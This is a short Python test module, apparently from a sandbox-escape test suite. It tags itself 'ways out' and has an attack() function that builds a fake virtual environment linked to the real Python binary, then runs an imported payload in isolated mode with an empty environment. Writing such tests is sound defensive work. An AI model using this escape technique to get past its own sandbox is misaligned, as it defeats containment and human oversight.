"""A child runs in a virtual environment of one's own making."""
CATEGORY = "ways out"
REACH = "net"
POLICIES = "allow"
GRANT = {"run": True}

import os
import subprocess

from . import payload


def attack():
    root = payload.ROOT + "/tmp/venv"
    os.makedirs(root + "/bin")
    os.symlink(payload.PYTHON, root + "/bin/python")
    with open(root + "/pyvenv.cfg", "w") as file:
        file.write(f"home = {os.path.dirname(payload.PYTHON)}\n")
    subprocess.run([root + "/bin/python", "-I", "-c", payload.SOURCE],
                   env={})
